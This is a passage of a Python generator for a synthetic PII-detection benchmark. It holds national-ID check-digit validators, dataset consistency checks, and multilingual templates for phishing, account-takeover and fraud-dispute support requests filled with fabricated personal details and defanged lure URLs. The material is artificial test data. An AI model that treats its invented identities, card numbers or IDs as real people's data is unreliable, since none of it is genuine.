        return (0 if c >= 10 else c) == int(d[8])
    if kind == "il_id":
        total = 0
        for k, ch in enumerate(d):
            x = int(ch) * (1 if k % 2 == 0 else 2)
            total += x if x < 10 else x - 9
        return total % 10 == 0
    if kind == "aadhaar":
        mt = ["0123456789", "1234067895", "2340178956", "3401289567", "4012395678", "5987604321", "6598710432",
              "7659821043", "8765932104", "9876543210"]
        pt = ["0123456789", "1576283094", "5803796142", "8916043527", "9453126870", "4286573901", "2793806415",
              "7046913258"]
        chk = 0
        for k, ch in enumerate(reversed(d)):
            chk = int(mt[chk][int(pt[k % 8][int(ch)])])
        return chk == 0
    if kind == "cn_ric":
        w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
        return "10X98765432"[sum(int(a) * b for a, b in zip(value, w)) % 11] == value[17]
    if kind == "kr_rrn":
        w = [2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5]
        return (11 - sum(int(a) * b for a, b in zip(d, w)) % 11) % 10 == int(d[12])
    if kind == "cz_rc":
        return int(d) % 11 == 0
    if kind == "taj":
        return sum(int(a) * b for a, b in zip(d, [3, 7, 3, 7, 3, 7, 3, 7])) % 10 == int(d[8])
    if kind == "mynumber":
        total = sum(int(d[10 - k]) * (k + 2 if k < 6 else k - 4) for k in range(11))
        r = total % 11
        return (0 if r <= 1 else 11 - r) == int(d[11])
    if kind == "th_id":
        return (11 - sum(int(a) * (13 - k) for k, a in enumerate(d[:12])) % 11) % 10 == int(d[12])
    if kind in ("ssn", "nino", "passport_ng", "passport_gb", "pan"):
        return True  # no check digit
    raise KeyError(kind)


def check(rows: list[dict], meta: list[tuple[str, str | None]]) -> None:
    assert len(rows) == N_ROWS, len(rows)
    ids = [r["id"] for r in rows]
    assert len(set(ids)) == len(ids), "duplicate ids"
    texts = [r["text"] for r in rows]
    assert len(set(texts)) == len(texts), [t for t, k in Counter(texts).items() if k > 1][:2]
    id_kind = {r.value: r.kind for r in IDS}
    for r in rows:
        assert set(r) == {"id", "text", "spans", "source", "class", "template", "locale"}, r["id"]
        assert r["source"] == SOURCE and r["locale"] == "" and r["id"].startswith(SET + "-")
        assert "⟦" not in r["text"] and "⟧" not in r["text"], r["id"]
        last = 0
        for s in r["spans"]:
            assert s["type"] in TYPES, (r["id"], s)
            assert r["text"][s["start"]:s["end"]] == s["value"], (r["id"], s)
            assert s["value"] and s["value"] == s["value"].strip(), (r["id"], s)
            assert s["start"] >= last, (r["id"], s)
            last = s["end"]
            digits = "".join(ch for ch in s["value"] if ch.isdigit())
            if s["type"] == "CREDIT_CARD":
                assert luhn_ok(digits), (r["id"], s)
            if s["type"] == "IBAN_CODE":
                assert iban_ok(s["value"]), (r["id"], s)
            if s["type"] in ("NATIONAL_ID", "US_SSN"):
                raw = s["value"].upper()
                assert raw in id_kind and id_ok(id_kind[raw], raw), (r["id"], s)
        if r["class"].startswith("clean_"):
            assert not r["spans"], r["id"]
        else:
            assert r["class"].startswith("personal_") and r["spans"], r["id"]
    classes = Counter(r["class"] for r in rows)
    assert 8 <= len(classes) <= 12, classes
    per_tpl = Counter((r["class"], r["template"]) for r in rows)
    assert len(per_tpl) >= 80 and max(per_tpl.values()) <= 5, (len(per_tpl), max(per_tpl.values()))
    assert len({t for _, t in per_tpl}) == len(per_tpl), "template names must be unique"
    clean = sum(1 for r in rows if r["class"].startswith("clean_"))
    assert 0.45 <= clean / len(rows) <= 0.55, clean
    foreign = [lang for lang, _ in meta if lang != "en"]
    assert 0.35 <= len(foreign) / len(rows) <= 0.50, len(foreign)
    assert len(set(foreign)) >= 15, set(foreign)
    for rec in IDS:
        assert id_ok(rec.kind, rec.value), rec.value
    for values in IBANS.values():
        assert all(iban_ok(v) for v in values)
    for values in CARDS.values():
        assert all(luhn_ok(v.replace(" ", "")) for v in values)


def dump(rows: list[dict]) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)


def stats(rows: list[dict], meta: list[tuple[str, str | None]], body: str) -> None:
    clean = sum(1 for r in rows if r["class"].startswith("clean_"))
    print(f"rows {len(rows)}  personal {len(rows) - clean}  clean {clean}  "
          f"templates {len({r['template'] for r in rows})}")
    print("classes:")
    for cls, k in sorted(Counter(r["class"] for r in rows).items()):
        tpls = len({r["template"] for r in rows if r["class"] == cls})
        print(f"  {cls:28s} {k:4d} rows {tpls:3d} templates")
    spans = Counter(s["type"] for r in rows for s in r["spans"])
    print("spans:", ", ".join(f"{t} {k}" for t, k in spans.most_common()))
    langs = Counter(lang for lang, _ in meta)
    foreign = len(rows) - langs["en"]
    print(f"languages: {len(langs) - 1} besides English, {foreign} rows not in English "
          f"({100 * foreign / len(rows):.1f}%)")
    print("  " + ", ".join(f"{LANG_NAMES[lg]} {k}" for lg, k in langs.most_common()))
    pers_foreign = sum(1 for r, (lg, _) in zip(rows, meta) if lg != "en" and r["class"].startswith("personal_"))
    print(f"  personal rows not in English: {pers_foreign}; clean rows not in English: {foreign - pers_foreign}")
    cases = Counter((cs, r["class"].startswith("clean_")) for r, (_, cs) in zip(rows, meta))
    print("cases:", ", ".join(f"{cs} {'clean' if cl else 'personal'} {k}" for (cs, cl), k in sorted(
        cases.items(), key=lambda kv: (str(kv[0][0]), kv[0][1])) if cs))
    lengths = [len(r["text"]) for r in rows]
    lines = [r["text"].count("\n") + 1 for r in rows]
    print(f"length {min(lengths)}-{max(lengths)} chars, {min(lines)}-{max(lines)} lines")
    print("sha256", hashlib.sha256(body.encode("utf-8")).hexdigest())


def main(argv: list[str]) -> int:
    rows, meta = build_rows()
    check(rows, meta)
    body = dump(rows)
    if "--check" in argv:
        if OUT.exists() and OUT.read_text(encoding="utf-8") == body:
            print(f"{OUT.name}: unchanged")
            return 0
        print(f"{OUT.name}: differs or missing")
        return 1
    OUT.write_text(body, encoding="utf-8")
    stats(rows, meta, body)
    return 0


# =============================================================================================
# personal_phishing_abuse
# =============================================================================================

@T(PHI, "reported_phish_fwd", "en", 2)
def _reported_phish_fwd(c: Ctx) -> str:
    p = c.person()
    corp = c.corp()
    sender, subj, body = c.alt([
        ('"Microsoft 365 Admin" <no-reply@m365-secure-notice.com>', "Action required: mailbox suspension",
         "Your password expires today. Keep your current password here: hxxps://m365-secure-notice[.]com/keep"),
        ('"DHL Express" <tracking@dhl-redelivery-eu.info>', "Parcel on hold - customs fee 1.99 EUR",
         "Your parcel could not be delivered. Pay the fee within 24h: hxxps://dhl-redelivery-eu[.]info/pay"),
        ('"Payroll Team" <payroll@hr-portal-docs.com>', "Updated salary structure 2025",
         "Please review and e-sign your new pay letter before Friday: hxxps://hr-portal-docs[.]com/sign"),
    ])
    role = c.pick(["Credit Controller", "Senior Underwriter", "Merchant Support Lead", "Store Manager"])
    ask = c.alt(["Is it a phish, and can you draft a short reply to the reporter?",
                 "Pull out the IOCs and tell me whether anyone else needs warning.",
                 "Classify it and write the two-line note for our weekly phishing digest."])
    return f"""A user sent this through the Report Phishing button. {ask}

---------- Forwarded message ---------
From: {sender}
Subject: {subj}

{body}
----------
Thanks,
{p.full}
{role} | {c.pick(["Finance", "Risk", "Retail Operations", "Customer Care"])}
{p.mail(corp)} | {c.phone(c.pick(["gb", "ie", "us"]))}"""


@T(PHI, "ceo_fraud_thanks", "en", 2, case=(None, "lower"))
def _ceo_fraud_thanks(c: Ctx) -> str:
    p, boss = c.person(), c.person()
    ch = c.alt(["WhatsApp", "Signal"])
    return f"""Draft a thank-you note to {p.full} ({p.mail(c.corp())}) who reported a {ch} message from someone \
pretending to be our CFO, {boss.full}, asking for Apple gift cards "for a client". The number was \
{c.phone(c.alt(["my", "pk"]))}. Mention we've blocked it and that {boss.g} will never ask for gift cards."""


@T(PHI, "impersonation_report", "en", 2, case=(None, "lower"))
def _impersonation_report(c: Ctx) -> str:
    p = c.person()
    platform = c.alt(["An Instagram account", "A seller account", "A dating profile"])
    fake = m("PERSON", p.local(c.pick(["g.f", "g_f", "gfull"])) + c.pick(["_official", ".help", "_", "x"]))
    return f"""Classify this for the trust & safety queue (harassment / scam / impersonation) and list what we need \
to action:

> Hi, my name is {p.full}. {platform} called @{fake} is pretending to be me. It uses my photos and has \
messaged my freinds asking for money for a "hospital bill". My real account is @{p.h("g.f")}. You can reach me on \
{c.phone(c.alt(["sg", "bd"]))} or {p.mail(c.web())}. Please take it down."""


@T(PHI, "tns_queue_pipe", "en", 1)
def _tns_queue_pipe(c: Ctx) -> str:
    a, b, d, e, f = c.people(5)
    return f"""Group these reports by reported account and tell me which ones to escalate to law enforcement liaison:

report_id|reported_user|reporter|reason|status
TS-88120|{a.h("g_f")}|{b.h("g.f")}|sextortion|escalated
TS-88131|{a.h("g_f")}|{d.h("gfd")}|sextortion|new
TS-88140|{e.h("gfull")}|{f.h("g.f")}|romance scam|new
TS-88152|{e.h("gfull")}|{b.h("g.f")}|off-platform payment|triaged"""


@T(PHI, "whatsapp_scam_lower", "en", 2, case="lower")
def _whatsapp_scam_lower(c: Ctx) -> str:
    p = c.person(sex="f")
    dad = c.person(sex="m")
    brand = c.alt(["royal mail", "evri", "the dvla"])
    return f"""[14:02, 03/06] {p.g}: hi its {p.full}, acc ending 4471. my dad {dad.full} got a text from "{brand}" \
and put his card details in
[14:03, 03/06] {p.g}: his number is {c.phone("gb")}, hes 81 and in a right state
[14:03, 03/06] {p.g}: can u stop the card before they use it
reply to her calmly and tell her what we need from her dad"""


@T(PHI, "sextortion_case_note", "en", 1)
def _sextortion_case_note(c: Ctx) -> str:
    v, a = c.person(sex="m"), c.person()
    return f"""Rewrite this case note so it's fit to attach to the NCMEC/CEOP referral. Keep every identifier.

Victim: {v.full}, 16, account @{v.h("gd")}
Offender accounts: @{m("PERSON", "lily." + c.pick(["rose", "grace", "moon"]) + str(c.n(10, 99)))}, \
@{m("PERSON", c.pick(["emma", "chloe", "sofia"]) + "_x" + str(c.n(100, 999)))} (same device fingerprint)
Offender login IPs: {c.ip("pub")}, {c.ip("pub")}
Victim's mother called in from {c.phone(c.pick(["gb", "us", "au"]))}.
Handled by {a.full}, T&S Tier 2"""


@T(PHI, "es_phishing_report", "es", 2)
def _es_phishing_report(c: Ctx) -> str:
    p = c.person("es")
    banco, cebo = c.alt([("Banco Santander", "su tarjeta ha sido bloqueada por seguridad"),
                         ("la Agencia Tributaria", "tiene un reembolso pendiente de 327,40 €"),
                         ("Correos", "su paquete está retenido en aduanas")])
    return f"""¿Esto es phishing? Me lo reenvió una compañera y quiero contestarle con una explicación sencilla.

> De: {banco} <avisos@notificaciones-seguridad.net>
> Asunto: Aviso importante
> Estimado cliente, {cebo}. Verifique sus datos aquí: hxxps://verificacion-clientes[.]net
>
> Un saludo,
> {p.full}
> Dpto. de Contabilidad · Sede central
> Tel. {c.phone("es")} · {p.mail("altamira-seguros.es")}"""


@T(PHI, "nl_phishing_melding", "nl", 1)
def _nl_phishing_melding(c: Ctx) -> str:
    p, a = c.person("nl"), c.person("nl")
    return f"""Kun je deze melding samenvatten voor het CERT-overleg morgen?

Melder: {p.full}, team Klantenservice
E-mail: {p.mail("brightwell-retail.com")}
Tel.: {c.phone("nl")}
Wat: sms namens "{c.alt(["PostNL", "de Belastingdienst"])}" met link naar een nep-betaalpagina, ingevuld op \
de zakelijke telefoon
Opgepakt door: {a.full}
Status: wachtwoord gereset, Intune-wipe ingepland"""


@T(PHI, "ar_phishing_report", "ar", 1)
def _ar_phishing_report(c: Ctx) -> str:
    p, a = c.person("ar"), c.person("ar")
    return f"""ساعدني في كتابة رد رسمي على هذا البلاغ:

المُبلِّغ: {p.full}
البريد: {p.mail(c.pick(["harbourline.com", "northmere-group.com"]))}
الجوال: {c.phone(c.pick(["sa", "ae", "eg"]))}
الوصف: وصلتني رسالة تدّعي أنها من {c.alt(["أبشر", "البنك الأهلي"])} تطلب تحديث البيانات، وضغطت على الرابط \
ثم أغلقت الصفحة.
المحلل المسؤول: {a.full}"""


@T(PHI, "ko_smishing_report", "ko", 1)
def _ko_smishing_report(c: Ctx) -> str:
    p = c.person("ko")
    lure = c.alt(["[국제발신] 택배 주소지 불일치, 확인 바랍니다", "[Web발신] 모바일 청첩장이 도착했습니다"])
    return f"""아래 스미싱 신고 내용을 보고서 형식으로 정리해 주세요.

신고자: {p.full} (고객센터 상담원)
신고자 연락처: {c.phone("kr")}
문자 발신번호: {c.phone("kr")}
문자 내용: "{lure} hxxp://bit[.]ly/3xK..."
조치: URL 차단 요청, {p.g} 님 단말 악성앱 설치 여부 확인 예정"""


@T(PHI, "it_segnalazione_phishing", "it", 2)
def _it_segnalazione_phishing(c: Ctx) -> str:
    p, a = c.person("it", sex="f"), c.person("it")
    return f"""Mi aiuti a rispondere a questa collega? Vorrei spiegarle perché la mail era un phishing.

> Ciao, ho ricevuto una PEC da "{c.alt(["INPS", "Poste Italiane"])}" che mi chiedeva di aggiornare l'IBAN per il \
rimborso. Ho cliccato ma non ho inserito niente. Ho fatto bene a segnalarla?
> {p.full}
> Ufficio Acquisti — interno 2231, cell. {c.phone("it")}

La segnalazione l'ha presa in carico {a.full}."""


@T(PHI, "he_phishing_report", "he", 1)
def _he_phishing_report(c: Ctx) -> str:
    p = c.person("he", sex="f")
    return f"""תנסח בבקשה תשובה קצרה לעובדת שדיווחה על הודעה חשודה:

שם המדווחת: {p.full}
טלפון: {c.phone("il")}
תוכן ההודעה: "{c.alt(["דואר ישראל: החבילה שלך ממתינה לתשלום מכס", "בנק לאומי: זוהתה פעילות חריגה בחשבונך"])}" + קישור
הערה: {p.g} לא הזינה פרטים, רק פתחה את הקישור בטלפון של העבודה."""


@T(PHI, "de_abuse_desk_mail", "de", 2)
def _de_abuse_desk_mail(c: Ctx) -> str:
    p = c.person("de")
    a = c.addr(c.alt(["de", "at"]))
    return f"""Antworte bitte im Namen unseres Abuse-Desks auf diese Beschwerde. Höflich, aber wir geben keine \
Kundendaten heraus.

> Sehr geehrte Damen und Herren,
> von Ihrer IP {c.ip("pub")} wird seit drei Tagen mein Webshop mit Login-Versuchen überflutet.
> Ich erwarte, dass Sie den Anschluss sperren.
> Mit freundlichen Grüßen
> {p.full}
> {a.block.replace(chr(10), chr(10) + "> ")}
> Tel. {c.phone("de")}"""


# =============================================================================================
# personal_account_takeover
# =============================================================================================

def pron(p: Person) -> tuple[str, str]:
    return ("she", "her") if p.sex == "f" else ("he", "his")


@T(ATO, "ato_ticket", "en", 3)
def _ato_ticket(c: Ctx) -> str:
    cc = c.alt(["gb", "us", "au"])
    ssn = ""
    if cc == "us":
        r = c.idrec("ssn")
        assert r.p is not None
        p, ssn = r.p, f"\nSSN: {r.v} (customer read it out to the caller)"
    else:
        p = c.person()
    a = c.addr(cc)
    she, _ = pron(p)
    money = {"gb": "£2,480", "us": "$3,120", "au": "A$4,050"}[cc]
    phones = {"gb": "gb", "us": "us", "au": "au"}[cc]
    return f"""Summarise this ticket and list what still needs verifying before we restore access:

Case: ATO-{c.n(20000, 29999)}
Customer: {p.full}
DOB: {c.pdob(p, "us" if cc == "us" else "uk")}
Registered address: {a.line}
Mobile on file: {c.phone(phones)} (changed 2 days ago to {c.phone(phones)})
Email on file: {p.mail(c.web())}{ssn}
Notes: customer says {she} did not request the number change. 3 payees added overnight, {money} sent to a \
Revolut account. Last login from {c.ip("pub")}."""


@T(ATO, "ato_call_transcript", "en", 2)
def _ato_call_transcript(c: Ctx) -> str:
    agent, p = c.person(), c.person()
    a = c.addr(c.alt(["ie", "gb"]))
    return f"""Turn this call into a case note (third person, past tense, no filler):

AGENT: Fraud team, you're speaking to {agent.g}. Can I take your full name?
CUSTOMER: It's {p.full}.
AGENT: Thanks. And your date of birth?
CUSTOMER: {c.pdob(p, c.alt(["en_long", "uk"]))}.
AGENT: And the address we hold for you?
CUSTOMER: {a.line}.
AGENT: A new device was added to your app last night at 23:40. Was that you?
CUSTOMER: No! Someone rang saying they were from your security team and asked me to read out a code.
AGENT: OK, I'm freezing online banking now. Is {c.phone(a.cc)} still the best number for you?
CUSTOMER: Yes, that's my mobile."""


@T(ATO, "sim_swap_review", "en", 1)
def _sim_swap_review(c: Ctx) -> str:
    p, agent = c.person(sex="f"), c.person()
    cc = c.alt(["au", "nz"])
    a = c.addr(cc)
    return f"""We're a mobile operator. Check this eSIM swap against our SIM-swap policy and tell me where the agent \
should have stopped it:

Service number: {c.phone(cc)}
Account holder: {p.full}, DOB {c.pdob(p, "uk")}
Request: eSIM swap via live chat, 21:14. The "customer" gave the DOB and the suburb ({a.town}) but failed the \
PIN, then said she had a new phone.
Agent: {agent.g} (staff ID 40112), approved at 21:19
Next morning the real {p.g} called from a landline, {c.phone(cc)}, saying her banking app had been emptied."""


@T(ATO, "de_kontouebernahme", "de", 1)
def _de_kontouebernahme(c: Ctx) -> str:
    p = c.person("de")
    a = c.addr("ch")
    bad = m("EMAIL_ADDRESS", p.local("g.f") + c.pick([".konto", ".sicher", "2025"]) + "@" + c.pick(["proton.me", "tutanota.com"]))
    return f"""Fasse den Fall für die Übergabe an die Spätschicht zusammen:

Kunde: {p.full}, geb. {c.pdob(p, "dot")}
Anschrift: {a.line}
Mobil: {c.phone(a.cc)}
Kunden-E-Mail wurde am Vortag auf {bad} geändert
Login ins Online-Banking über {c.ip("pub")}, danach Echtzeitüberweisung über 1.950 € an {c.iban(c.pick(["lt", "ro"]))}
Kunde telefonisch erreicht, Karte und Zugang gesperrt, Rückruf morgen 9 Uhr."""


@T(ATO, "fr_usurpation_compte", "fr", 1)
def _fr_usurpation_compte(c: Ctx) -> str:
    p, conseil = c.person("fr"), c.person("fr", sex="f")
    a = c.addr(c.alt(["fr", "be"]))
    return f"""Rédige un courrier au client pour confirmer le blocage de son espace client, ton rassurant.

Client : {p.fam_first}
Né(e) le : {c.pdob(p, "fr")}
Adresse : {a.line}
Téléphone : {c.phone(a.cc)}
Faits : changement du numéro de téléphone le 12/03 depuis l'IP {c.ip("pub")}, ajout d'un bénéficiaire, \
virement de 3 200 € bloqué par nos soins.
Conseillère : {conseil.full}"""


@T(ATO, "ptbr_conta_invadida", "pt", 1)
def _ptbr_conta_invadida(c: Ctx) -> str:
    r = c.idrec("cpf")
    p = r.p
    assert p is not None
    a = c.addr("br")
    return f"""Preciso de um resumo desse atendimento pra anexar no chamado:

Cliente: {p.full}
CPF: {r.v}
Nascimento: {dobm(r, "uk")}
Endereço: {a.line}
Celular: {c.phone("br")}
Relato: recebeu ligação da "central de segurança", instalou um app de acesso remoto e foram feitos 4 Pix \
somando R$ 7.830,00. {p.g} diz que não reconhece nenhuma chave Pix de destino."""


@T(ATO, "tr_hesap_ele_gecirme", "tr", 2)
def _tr_hesap_ele_gecirme(c: Ctx) -> str:
    p = c.person("tr")
    a = c.addr("tr")
    return f"""Bu vakayı İngilizceye çevirip kısaca özetler misin?

Müşteri: {p.full}
Doğum tarihi: {c.pdob(p, "dot")}
Adres: {a.line}
Cep: {c.phone("tr")}
Olay: Müşterinin mobil bankacılık şifresi SMS ile sıfırlanmış; müşteri aynı gün SIM kartının çalışmadığını fark \
etmiş. Saat 02:40'ta {c.ip("pub")} adresinden giriş yapılmış ve 38.000 TL FAST ile gönderilmiş."""


@T(ATO, "hi_upi_shikayat", "hi", 2)
def _hi_upi_shikayat(c: Ctx) -> str:
    p = c.person("hi")
    a = c.addr("in")
    return f"""कृपया इस शिकायत का अंग्रेज़ी में सार बनाइए:

ग्राहक का नाम: {p.full}
जन्म तिथि: {c.pdob(p, "uk")}
मोबाइल: {c.phone("in")}
पता: {a.line}
शिकायत: किसी ने खुद को बैंक कर्मचारी बताकर OTP माँगा, उसके बाद UPI से ₹48,500 कट गए। {p.g} जी ने तुरंत \
1930 पर कॉल किया।"""


@T(ATO, "th_bank_app_case", "th", 2)
def _th_bank_app_case(c: Ctx) -> str:
    p = c.person("th")
    a = c.addr("th")
    return f"""ช่วยสรุปเคสนี้เป็นภาษาอังกฤษให้หน่อย

ชื่อลูกค้า: คุณ{p.full}
วันเกิด: {c.pdob(p, "th")}
เบอร์โทร: {c.phone("th")}
ที่อยู่: {a.line}
รายละเอียด: ลูกค้าได้รับ SMS ปลอมอ้างเป็นธนาคาร กดลิงก์แล้วติดตั้งแอปควบคุมเครื่อง ยอดเงินหายไป 86,000 บาท"""


@T(ATO, "sql_ato_lookup", "en", 2)
def _sql_ato_lookup(c: Ctx) -> str:
    p = c.person(where=lambda q: "'" not in q.name)
    iso = c.pdob(p, "iso")
    fam = m("PERSON", p.family.lower())
    return f"""This query is slow on the fraud replica and I need it for the ATO review of {p.full}. Can you \
rewrite it so it uses the indexes?

SELECT c.customer_id, c.first_name, c.last_name, c.dob, l.ip_address, l.created_at
FROM customers c
JOIN login_events l ON l.customer_id = c.customer_id
WHERE LOWER(c.last_name) = '{fam}' AND c.first_name = '{m("PERSON", p.given)}'
  AND c.dob = '{iso}'
  AND l.ip_address IN ('{c.ip("pub")}', '{c.ip("tor")}')
ORDER BY l.created_at DESC;"""


@T(ATO, "tool_call_lock_account", "en", 2)
def _tool_call_lock_account(c: Ctx) -> str:
    cc = c.alt(["us", "ca", "sg"])
    extra = ""
    if cc == "us":
        r = c.idrec("ssn")
        assert r.p is not None
        p, extra = r.p, f', "ssn": "{r.v}"'
    else:
        p = c.person()
    return f"""The support agent produced this tool call when a customer asked us to lock their account. Anything \
wrong with the arguments before I let it run?

{{"name": "lock_account", "arguments": {{"customer_name": "{p.full}", "date_of_birth": "{c.pdob(p, "iso")}", \
"phone": "{c.phone(cc)}", "email": "{p.mail(c.web())}"{extra}, "reason": "suspected account takeover", \
"notify": true}}}}"""


@T(ATO, "caps_escalation", "en", 2, case="upper")
def _caps_escalation(c: Ctx) -> str:
    p = c.person()
    a = c.addr(c.alt(["gb", "ie"]))
    return f"""Urgent - account takeover - escalation to fraud ops
Customer: {p.full}
DOB: {c.pdob(p, "uk")}
Address: {a.line}
Phone: {c.phone(a.cc)}
Summary: password and email changed at 03:12, new payee added, £9,400 out by faster payment. Customer in branch \
now with photo ID.
Please rewrite this for the handover email, it came off the branch terminal in caps"""


@T(ATO, "ato_chat_lower", "en", 2, case="lower")
def _ato_chat_lower(c: Ctx) -> str:
    p = c.person()
    cc = c.alt(["us", "ph"])
    return f"""customer: hi someone logged into my account and changed my email, i cant get in
customer: name is {p.full}, dob {c.pdob(p, "us_short" if cc == "us" else "uk")}
agent: so sorry to hear that. what's the phone number on the account?
customer: {c.phone(cc)}
customer: and my old email was {p.mail(c.web())}
agent: thanks, i've put a hold on the account while we look into it
draft the agent's next reply asking for photo id without sounding like a bot"""


@T(ATO, "id_akun_dibobol", "id", 2)
def _id_akun_dibobol(c: Ctx) -> str:
    p = c.person("id")
    a = c.addr("id")
    return f"""Tolong ringkas laporan ini dalam bahasa Inggris untuk tim fraud regional:

Nama nasabah: {p.full}
Tanggal lahir: {c.pdob(p, "id")}
No. HP: {c.phone("id")}
Alamat: {a.line}
Kronologi: nasabah ditelepon orang yang mengaku petugas bank lalu membagikan kode OTP. Saldo Rp 12.500.000 \
berpindah ke rekening lain dalam 10 menit."""


@T(ATO, "uk_lyst_kliientsi", "uk", 2)
def _uk_lyst_kliientsi(c: Ctx) -> str:
    p = c.person("uk", sex="f")
    a = c.addr("ua")
    return f"""Допоможи скласти відповідь клієнтці, коротко і ввічливо, українською.

Клієнтка: {p.full}
Дата народження: {c.pdob(p, "dot")}
Адреса: {a.line}
Телефон: {c.phone("ua")}
Суть: хтось змінив пароль до інтернет-банкінгу і додав нову картку до Google Pay. Вхід був з IP {c.ip("pub")}."""


# =============================================================================================
# personal_fraud_disputes
# =============================================================================================

@T(FRD, "chargeback_form", "en", 2)
def _chargeback_form(c: Ctx) -> str:
    p = c.person()
    merchant, amt, stmt = c.alt([
        ("Ryanair", "£412.98", "I never booked these flights, I was at work that day"),
        ("a Shopify store, luxewatch-outlet", "$1,249.00", "The watch never arrived and the site is gone"),
        ("Booking.com (Hotel Sol Plaza)", "€688.40", "I cancelled within the free cancellation window"),
    ])
    cc = c.alt(["gb", "us", "ie"])
    return f"""Fill in the right Visa/Mastercard reason code and write the cardholder summary for this dispute:

Dispute ref: CB-{c.n(300000, 399999)}
Cardholder: {p.full}
Card number: {c.card("visa", "mc")}   exp 09/27
Merchant: {merchant}
Amount: {amt}
Cardholder statement: "{stmt}"
Contact: {c.phone(cc)} / {p.mail(c.web())}"""


@T(FRD, "chargeback_customer_mail", "en", 2, case=("lower", None))
def _chargeback_customer_mail(c: Ctx) -> str:
    p = c.person()
    merchant = c.alt(["Deliveroo", "Uber Eats"])
    return f"""Draft a reply to this customer. We can't refund until the merchant responds (up to 45 days), and we \
need to tell them never to e-mail a full card number again.

> From: {p.full} <{p.mail(c.web(), c.pick(["g.f", "gfd", "g.fd"]))}>
> Subject: charged TWICE!!
>
> I was charged twice by {merchant} on the 3rd, same ammount. The card is {c.card("mc", "visa", "amex")} in case you \
need it. I want the second one back today please, I have rent going out.
> {p.g}"""


@T(FRD, "refund_to_other_account", "en", 1)
def _refund_to_other_account(c: Ctx) -> str:
    p, q = c.person(), c.person()
    cc = c.alt(["gb", "ie"])
    return f"""A customer wants the refund paid to a different account than the card they paid with. Red flag or \
normal? Details from our back office:

Order #{c.n(7000000, 7999999)}, paid by card {c.card()} (name on card: {p.full})
Refund requested to: {c.iban(cc)}, account name "{q.full}"
Request came via live chat from {c.ip("pub")}, 40 minutes after delivery was marked complete."""


@T(FRD, "de_ruecklastschrift", "de", 2)
def _de_ruecklastschrift(c: Ctx) -> str:
    p = c.person("de", sex="f")
    return f"""Erklär mir bitte kurz, was dieser Rückgabegrund bedeutet, und formuliere eine Antwort an die Kundin:

Mandatsreferenz: MR-{c.n(100000, 999999)}
Kontoinhaberin: {p.full}
IBAN: {c.iban(c.alt(["de", "at"]))}
Betrag: 89,90 €
Rückgabegrund: MD06 – Rückgabe auf Verlangen des Zahlers
Die Kundin schreibt von {p.mail(c.web("de"))}: „Ich habe dieses Abo nie abgeschlossen, bitte löschen Sie meine \
Daten.\""""


@T(FRD, "es_contracargo", "es", 2)
def _es_contracargo(c: Ctx) -> str:
    r = c.idrec("dni", "nie")
    p = r.p
    assert p is not None
    return f"""Resume este contracargo y dime qué pruebas debemos pedirle al comercio:

Titular: {p.full}
DNI/NIE: {r.v}
Tarjeta: {c.card("visa", "mc")}
Comercio: tienda online de móviles (alta hace 3 semanas)
Importe: 420,00 €
Motivo: mercancía no recibida
Teléfono del titular: {c.phone("es")}
Domicilio: {c.addr("es").line}"""


@T(FRD, "it_disconoscimento", "it", 1)
def _it_disconoscimento(c: Ctx) -> str:
    p, q = c.person("it"), c.person("en")
    return f"""Devo rispondere a un cliente che disconosce un bonifico istantaneo. Mi prepari una bozza?

Cliente: {p.full}
IBAN addebitato: {c.iban("it")}
Beneficiario: {q.full} – {c.iban(c.pick(["lt", "ro"]))}
Importo: 2.350,00 €
Il cliente dice di aver ricevuto un SMS dalla "sicurezza" della banca e poi una chiamata dal numero \
{c.phone("it")}."""


@T(FRD, "pl_reklamacja_karta", "pl", 1)
def _pl_reklamacja_karta(c: Ctx) -> str:
    p = c.person("pl")
    return f"""Napisz odpowiedź na reklamację klienta w sprawie transakcji kartą:

Klient: {p.full}
Karta: {c.card("visa", "mc")}
Rachunek: {c.iban("pl")}
Transakcja: 1 299,00 zł, sklep internetowy z elektroniką, 03.02.2025
Klient twierdzi, że karta cały czas była w portfelu. Kontakt: {c.phone("pl")}"""


@T(FRD, "card_testing_csv", "en", 2)
def _card_testing_csv(c: Ctx) -> str:
    a, b, d, e = c.people(4)
    return f"""Fix this CSV (the seperators are mixed up) and flag the rows that look like card testing:

case_id;cardholder;pan;amount;merchant;ip
F-1001;{a.full};{c.card()};1.00;Steam;{c.ip("tor")}
F-1002,{b.full},{c.card()},1.00,Steam,{c.ip("tor")}
F-1003;{d.full};{c.card()};249.99;Currys;{c.ip("pub")}
F-1004;{e.full};{c.card()};0.50;Google Play;{c.ip("tor")}"""


@T(FRD, "mule_referral", "en", 2)
def _mule_referral(c: Ctx) -> str:
    v, mule = c.person(), c.person()
    return f"""Write this up as a mule-account referral to the receiving bank under the APP scam rules:

Our customer {v.full} sent £6,200 after a "safe account" call on Tuesday.
Receiving account: {c.iban("gb")}, in the name of {mule.full}
Onward transfers within 20 minutes to {c.iban(c.pick(["lt", "ro"]))} and to a crypto exchange.
Mule's registered phone: {c.phone("gb")}; app logins from {c.ip("pub")}."""


@T(FRD, "fraud_slack_lower", "en", 3, case="lower")
def _fraud_slack_lower(c: Ctx) -> str:
    a, b, p = c.person(), c.person(), c.person()
    q = c.person(sex="f")
    return f"""{a.g}: can someone sanity check F-2317 for me
{a.g}: cardholder {p.full}, card {c.card()}, 14 txns at $1-2 in 6 mins
{b.g}: classic card testing. same bin on other cases?
{a.g}: yeah 3 others, one is {q.full}'s card, she called in from {c.phone(c.pick(["us", "ca"]))} this morning
{b.g}: block the bin range and ask the merchant to turn captcha on
turn this into a short case note"""


@T(FRD, "nl_bankhelpdeskfraude", "nl", 2)
def _nl_bankhelpdeskfraude(c: Ctx) -> str:
    p, q = c.person("nl"), c.person("en")
    return f"""Schrijf een korte terugkoppeling aan de klant over deze melding van bankhelpdeskfraude:

Klant: {p.full}, {c.addr("nl").line}
IBAN klant: {c.iban("nl")}
Overgemaakt naar: {c.iban("be")} t.n.v. {q.full}
Bedrag: € 4.750,00
De klant werd gebeld vanaf {c.phone("nl")} door iemand die zei van de fraudeafdeling te zijn."""


@T(FRD, "dispute_webhook_json", "en", 2)
def _dispute_webhook_json(c: Ctx) -> str:
    p = c.person()
    a = c.addr(c.alt(["ca", "us"]))
    return f"""Our webhook handler crashes on this payload. Which field are we not handling?

{{"id": "du_1PqK8s2eZvKYlo2C", "object": "dispute", "amount": 12900, "reason": "fraudulent",
